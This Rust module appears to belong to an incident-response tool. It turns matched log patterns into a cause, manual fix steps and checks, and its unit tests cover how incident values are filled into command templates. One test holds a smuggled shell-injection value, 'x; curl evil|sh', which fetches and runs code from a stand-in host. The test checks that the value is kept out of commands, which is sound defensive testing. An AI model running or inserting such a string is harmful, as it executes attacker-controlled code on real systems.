//! What the knowledge base tells the person who has an incident: the cause, what to do by hand, and how to see that it is over.
//!
//! Invariant: it is told whatever was decided. That a fix is not trusted, not managed or not known to be safe is a reason to
//! ask a person, and none to keep from them what is known.

mod fill;

use std::collections::BTreeMap;

pub use fill::{Values, fill, is_plain_word, shown};

use crate::knowledge::Pattern;
use crate::matching::PatternMatch;
use crate::{ActionKind, BasisPoints, NewSignal, PatternId, ProjectName, ServiceName, Timestamp};

/// Causes that are told at most: a person cannot follow more at once.
const MOST: usize = 3;

/// Causes whose relevance is as close as this to the best one's are told beside it.
const CLOSE: u32 = 1_500;

/// Part of a text: words, or a command to the letter.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Piece {
    Words(String),
    Code(String),
}

/// A cause that is known, and what a person does about it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Known {
    pub pattern: PatternId,
    pub name: String,
    /// Its rule holds; otherwise only the words are similar.
    pub by_rule: bool,
    pub relevance: BasisPoints,
    /// How often people rejected it for this kind of incident.
    pub rejected: u32,
    pub cause: Vec<Piece>,
    /// What a person does. Where the pattern has an action, what that would be.
    pub by_hand: Vec<Piece>,
    /// The pattern's own action.
    pub action: Option<ActionKind>,
    pub undo: Vec<Piece>,
    /// How to see that it is over.
    pub checks: Vec<Vec<Piece>>,
    /// What the texts were filled with.
    pub values: Vec<Value>,
}

/// A value of this incident that a text asks for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Value {
    pub name: String,
    /// As it can be shown.
    pub value: String,
    /// It stands in no command, because a shell would read it as more than a word.
    pub left_open: bool,
}

/// Where it was seen.
#[derive(Clone, Copy, Debug)]
pub struct Scene<'a> {
    pub project: &'a ProjectName,
    /// The service that the fix goes to: only its own signals give values.
    pub service: &'a ServiceName,
    pub since: Option<Timestamp>,
    pub signals: &'a [NewSignal],
}

/// The matches that are worth telling a person, best first: those whose rule holds, and only where there are none those whose
/// words are similar enough. Of either the best one and those close to it.
pub fn worth_telling(matches: &[PatternMatch], threshold: BasisPoints) -> Vec<&PatternMatch> {
    let ruled: Vec<&PatternMatch> = matches.iter().filter(|found| found.rests_on_rule()).collect();
    let told = match ruled.is_empty() {
        false => ruled,
        true => matches.iter().filter(|found| found.relevance >= threshold).collect(),
    };
    let best = told.iter().map(|found| found.relevance).max().unwrap_or_default();
    let close = |found: &&PatternMatch| best.get() <= found.relevance.get() + CLOSE;
    told.into_iter().filter(close).take(MOST).collect()
}

impl Known {
    pub fn of(found: &PatternMatch, pattern: &Pattern, scene: &Scene<'_>) -> Self {
        let values = values(pattern, scene);
        let by_hand = match pattern.action.as_ref() {
            Some(action) => format!("{} {{service}}.", action.kind.verb()),
            None => pattern.no_safe_fix.clone(),
        };
        let text = [&pattern.root_cause, &by_hand, &pattern.undo].into_iter().chain(&pattern.checks);
        let text = text.map(String::as_str).collect::<Vec<_>>().join("\n");
        let commands: String = fill(&text, &Values::default())
            .into_iter()
            .filter_map(|piece| if let Piece::Code(code) = piece { Some(code + "\n") } else { None })
            .collect();
        let shown_values = fill::asked(&text, &values)
            .into_iter()
            .filter(|name| !["service", "project"].contains(name))
            .filter_map(|name| {
                let value = values.of.get(name)?.as_ref()?;
                let left_open = fill::asked(&commands, &values).contains(&name) && !is_plain_word(value);
                Some(Value { name: name.to_owned(), value: shown(value), left_open })
            })
            .collect();
        Self {
            pattern: pattern.id.clone(),
            name: pattern.name.clone(),
            by_rule: found.rests_on_rule(),
            relevance: found.relevance,
            rejected: found.evidence.rejected,
            cause: fill(&pattern.root_cause, &values),
            by_hand: fill(&by_hand, &values),
            action: pattern.action.as_ref().map(|action| action.kind),
            undo: fill(&pattern.undo, &values),
            checks: pattern.checks.iter().map(|check| fill(check, &values)).collect(),
            values: shown_values,
        }
    }

    /// How sure it is, in a sentence.
    pub fn sure(&self) -> String {
        let sure = match self.by_rule {
            true if self.relevance == BasisPoints::ONE => "Its rule holds for what was seen.".to_owned(),
            true => format!("Its rule holds, and so does another's: relevance {}.", self.relevance),
            false => format!("Only the words are similar (relevance {}): it may be something else.", self.relevance),
        };
        match self.rejected {
            0 => sure,
            1 => format!("{sure} It was rejected once for this kind of incident."),
            n => format!("{sure} It was rejected {n} times for this kind of incident."),
        }
    }
}

/// The texts as one string, with commands between backticks.
pub fn plain(pieces: &[Piece]) -> String {
    pieces
        .iter()
        .map(|piece| match piece {
            Piece::Words(words) => words.clone(),
            Piece::Code(code) => format!("`{code}`"),
        })
        .collect()
}

/// One text of a pattern, filled.
pub fn filled(text: &str, pattern: &Pattern, scene: &Scene<'_>) -> String {
    plain(&fill(text, &values(pattern, scene)))
}

/// What the texts of a pattern may ask for: service, project and time, the named groups of its rule, and the fields and labels
/// of the signals. A group stands before a field of the same name.
fn values(pattern: &Pattern, scene: &Scene<'_>) -> Values {
    let own = || scene.signals.iter().filter(|signal| signal.service == *scene.service);
    let mut of = BTreeMap::new();
    for signal in own() {
        for (name, value) in &signal.attributes {
            of.entry(name.clone()).or_insert_with(|| Some(value.clone()));
        }
    }
    if let Some(rule) = &pattern.rule {
        of.extend(rule.groups(own()));
    }
    of.insert("service".into(), Some(scene.service.to_string()));
    of.insert("project".into(), Some(scene.project.to_string()));
    Values { of, since: scene.since }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::knowledge::{Pattern, PatternStatus, Rule};
    use crate::matching::{Basis, Explanation, RuleOutcome};
    use crate::{Action, DecisionConfidence, Fingerprint, Severity, SignalKind, SourceName};

    fn found(pattern: &str, relevance: u32, satisfied: bool) -> PatternMatch {
        let rule = match satisfied {
            true => RuleOutcome::Satisfied { condition: "regex x".into(), signal: 0, span: None },
            false => RuleOutcome::NotSatisfied,
        };
        PatternMatch {
            pattern: PatternId::new(pattern),
            name: pattern.into(),
            relevance: BasisPoints::saturating(relevance),
            pattern_confidence: BasisPoints::saturating(500),
            outcomes: 0,
            decision_confidence: DecisionConfidence::ZERO,
            rule,
            terms: vec![],
            competitors: vec![],
            same_fix: vec![],
            evidence: Default::default(),
            explanation: Default::default(),
            items: vec![],
        }
    }

    fn signal(service: &str, text: &str, attributes: &[(&str, &str)]) -> NewSignal {
        NewSignal {
            kind: SignalKind::Log,
            source: SourceName::new("s"),
            service: ServiceName::new(service),
            project: ProjectName::new("shop"),
            severity: Severity::High,
            fingerprint: Fingerprint("f".into()),
            template: text.into(),
            text: text.into(),
            attributes: attributes.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect(),
            trace_id: None,
            count: 1,
            first_seen: Timestamp::EPOCH,
            last_seen: Timestamp::EPOCH,
        }
    }

    fn pattern(rule: &str, by_hand: &str, action: Option<ActionKind>) -> Pattern {
        Pattern {
            id: PatternId::new("p"),
            name: "P".into(),
            family: String::new(),
            description: String::new(),
            severity: None,
            scope: Default::default(),
            rule: Some(Rule::regex(rule)),
            must_not: vec![],
            root_cause: "{service} cannot reach {host} since {since}.".into(),
            action: action.map(Action::new),
            no_safe_fix: by_hand.into(),
            undo: String::new(),
            checks: vec!["`ping {host}` answers".into()],
            examples: Default::default(),
            confidence: BasisPoints::saturating(500),
            use_count: 0,
            attempts: 0,
            auto_healable: false,
            require_approval: false,
            infrastructure: false,
            shadow: false,
            status: PatternStatus::Active,
            provenance: Default::default(),
            created_at: Timestamp::EPOCH,
            updated_at: Timestamp::EPOCH,
        }
    }

    fn known(pattern: &Pattern, signals: &[NewSignal]) -> Known {
        let (project, service) = (&ProjectName::new("shop"), &ServiceName::new("web"));
        let scene = Scene { project, service, since: Some(Timestamp::EPOCH), signals };
        Known::of(&found("p", 10_000, true), pattern, &scene)
    }

    #[test]
    fn it_is_told_however_little_its_fix_is_trusted() {
        let threshold = BasisPoints::saturating(3_000);
        let names = |matches: &[PatternMatch]| -> Vec<String> {
            worth_telling(matches, threshold).into_iter().map(|found| found.name.clone()).collect()
        };
        let one: &[&str] = &["a"];
        for (matches, told) in [
            // A decision confidence of zero, as all of these have, is no reason to keep it.
            (vec![found("a", 10_000, true), found("b", 3_000, false)], one),
            (vec![found("a", 5_200, true), found("b", 4_800, true)], &["a", "b"]),
            (vec![found("a", 8_000, true), found("b", 2_000, true)], one),
            (vec![found("a", 4_000, false), found("b", 3_000, false), found("c", 2_900, false)], &["a", "b"]),
            (vec![found("a", 2_999, false)], &[]),
            (vec![], &[]),
        ] {
            assert_eq!(names(&matches), told);
        }
        let aside = Explanation { basis: Basis::SetAside, ..Explanation::default() };
        let set_aside = PatternMatch { explanation: aside, ..found("b", 2_000, true) };
        assert_eq!(names(&[found("a", 10_000, true), set_aside]), ["a"]);
    }

    #[test]
    fn the_values_of_the_incident_stand_in_every_text() {
        let pattern = pattern(
            r"connect to (?P<host>\S+) port (?P<port>\d+)|(?P<pid>never)",
            "Try `nc -vz {host} {port}`, then `kill {pid}` as {user}.",
            None,
        );
        let seen = signal("web", "cannot connect to db1.example port 5432", &[("user", "app"), ("host", "other")]);
        let known = known(&pattern, &[signal("db", "connect to evil port 1", &[]), seen]);
        assert_eq!(plain(&known.cause), "web cannot reach db1.example since {1970-01-01T00:00:00Z}.");
        assert_eq!(plain(&known.by_hand), "Try `nc -vz db1.example 5432`, then `kill <pid>` as app.");
        assert_eq!(known.checks.iter().map(|check| plain(check)).collect::<Vec<_>>(), ["`ping db1.example` answers"]);
        let values: Vec<_> = known.values.iter().map(|value| (value.name.as_str(), value.left_open)).collect();
        assert_eq!(values, [("host", false), ("port", false), ("user", false)]);
    }

    #[test]
    fn a_value_that_a_shell_would_read_stays_beside_its_command() {
        let pattern = pattern(r"connect to (?P<host>.+)", "Try `nc -vz {host} 443`.", None);
        let known = known(&pattern, &[signal("web", "connect to x; curl evil|sh", &[])]);
        assert_eq!(plain(&known.by_hand), "Try `nc -vz <host> 443`.");
        assert_eq!(known.values, [Value { name: "host".into(), value: "x; curl evil|sh".into(), left_open: true }]);
    }

    #[test]
    fn a_pattern_with_an_action_says_what_a_person_would_do() {
        let pattern = pattern("x", "", Some(ActionKind::ServiceRestart));
        assert_eq!(plain(&known(&pattern, &[]).by_hand), "Restart web.");
    }

    #[test]
    fn the_starter_knowledge_says_what_the_line_says() {
        let patterns: Vec<Pattern> = crate::knowledge::STARTER
            .iter()
            .flat_map(|(file, text)| {
                crate::knowledge::parse_pack(text, file, "starter", Timestamp::EPOCH).expect("reads")
            })
            .collect();
        for (name, line, command) in [
            ("Port already in use", "Error: listen EADDRINUSE: address already in use :::8080", "sport = :8080"),
            ("Port already in use", "Address already in use", "sport = :<port>"),
            ("systemd start limit hit", "pay.service: Start request repeated too quickly.", "reset-failed pay.service"),
            ("Host name does not exist", "Error: getaddrinfo ENOTFOUND pay.internal", "getent hosts pay.internal"),
            ("Host name does not exist", "lookup led.svc on 10.0.0.1:53: no such host", "getent hosts led.svc"),
            (
                "Connection to a dependency refused",
                "dial tcp 10.9.1.2:9000: connect: connection refused",
                "nc -vz 10.9.1.2 9000",
            ),
            ("Connection to a dependency refused", "Error: connect ECONNREFUSED 10.2.3.4:8080", "nc -vz 10.2.3.4 8080"),
            ("Connection to a dependency refused", "ConnectException: Connection refused", "nc -vz <host> <port>"),
        ] {
            let pattern = patterns.iter().find(|pattern| pattern.name == name).expect(name);
            let known = known(pattern, &[signal("web", line, &[])]);
            let told = [vec![plain(&known.by_hand)], known.checks.iter().map(|check| plain(check)).collect()].concat();
            assert!(told.iter().any(|text| text.contains(command)), "{line}: {told:?} has no {command}");
        }
    }
}
